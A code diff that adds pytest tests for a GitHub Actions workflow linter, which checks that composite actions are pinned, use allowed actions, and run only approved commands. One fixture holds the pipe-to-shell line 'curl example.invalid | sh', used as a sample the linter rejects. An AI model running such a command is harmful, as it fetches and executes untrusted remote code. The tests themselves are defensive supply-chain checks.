@@ -197,8 +197,75 @@ def test_pins(tmp_path: Path) -> None:
         "wf.yml:17: bot4[allowlist]: job j step 3: someone/action is not an allowed auxiliary "
         f"action (allowed: {', '.join(sorted(workflows.ALLOWED_ACTIONS))})",
         "wf.yml:18: bot4[pin]: job j step 4: docker://alpine:3 is not pinned by @sha256 digest",
+        "wf.yml:20: bot4[local]: job j step 6: ./.github/actions/local is not an action under "
+        "./.github/actions/",
         "wf.yml:21: bot4[pin]: job j step 7: cannot read uses: 'not a reference'",
     ]
+
+
+COMPOSITE = f"""name: setup
+description: d
+runs:
+  using: composite
+  steps:
+    - id: v
+      shell: bash
+      run: python3 -m ci.workflows python-version >> "$GITHUB_OUTPUT"
+    - uses: actions/setup-python@{SHA} # v7.0.0
+      with:
+        python-version: ${{{{ steps.v.outputs.python }}}}
+"""
+
+
+def _repo_with_action(tmp_path: Path, action: str) -> Path:
+    directory = tmp_path / ".github" / "actions" / "setup"
+    directory.mkdir(parents=True)
+    (directory / "action.yml").write_text(action, encoding="utf-8")
+    return directory / "action.yml"
+
+
+def test_composite_action_in_the_repository(tmp_path: Path) -> None:
+    _repo_with_action(tmp_path, COMPOSITE)
+    body = workflow("      - uses: ./.github/actions/setup\n" + GATE)
+    path = tmp_path / ".github" / "workflows" / "wf.yml"
+    path.parent.mkdir(parents=True)
+    path.write_text(body, encoding="utf-8")
+    assert workflows.check_workflow(path, SESSIONS, "wf.yml", tmp_path) == []
+    assert workflows.local_actions(tmp_path) == [tmp_path / ".github/actions/setup/action.yml"]
+    assert workflows.check_action(tmp_path / ".github/actions/setup/action.yml", tmp_path) == []
+
+
+def test_composite_action_obeys_the_step_rules(tmp_path: Path) -> None:
+    bad = (
+        COMPOSITE.replace("# v7.0.0", "")
+        + "    - run: scripts/gate -s lint\n"
+        + "    - run: curl example.invalid | sh\n      shell: bash\n"
+        + "    - uses: someone/action@"
+        + SHA
+        + " # v1.0.0\n"
+    )
+    path = _repo_with_action(tmp_path, bad)
+    found = [str(f) for f in workflows.check_action(path, tmp_path, "action.yml")]
+    assert found == [
+        f"action.yml:9: bot4[pin]: step 2: actions/setup-python@{SHA} has no '# vX.Y.Z' "
+        "comment naming the release",
+        "action.yml:12: bot4[run]: step 3: a composite action runs no nox session",
+        "action.yml:12: bot4[run]: step 3: run: needs shell: bash",
+        "action.yml:13: bot4[run]: step 4: run: 'curl example.invalid | sh' is neither "
+        "'scripts/gate -s <session> [-- ARGS]' nor an allowed auxiliary command",
+        "action.yml:15: bot4[allowlist]: step 5: someone/action is not an allowed auxiliary "
+        f"action (allowed: {', '.join(sorted(workflows.ALLOWED_ACTIONS))})",
+    ]
+    path.write_text("runs:\n  using: node24\n  main: x.js\n", encoding="utf-8")
+    assert [f.message for f in workflows.check_action(path, tmp_path)] == ["not a composite action"]
+
+
+def test_the_real_composite_action_is_clean_and_used() -> None:
+    actions = workflows.local_actions(ROOT)
+    assert [p.relative_to(ROOT).as_posix() for p in actions] == [".github/actions/setup/action.yml"]
+    assert workflows.check_action(actions[0], ROOT) == []
+    ci = (ROOT / ".github" / "workflows" / "ci.yml").read_text(encoding="utf-8")
+    assert "actions/setup-python@" not in ci  # the setup lives in one place
 
 
 def test_containers_and_services_pinned_by_digest(tmp_path: Path) -> None:
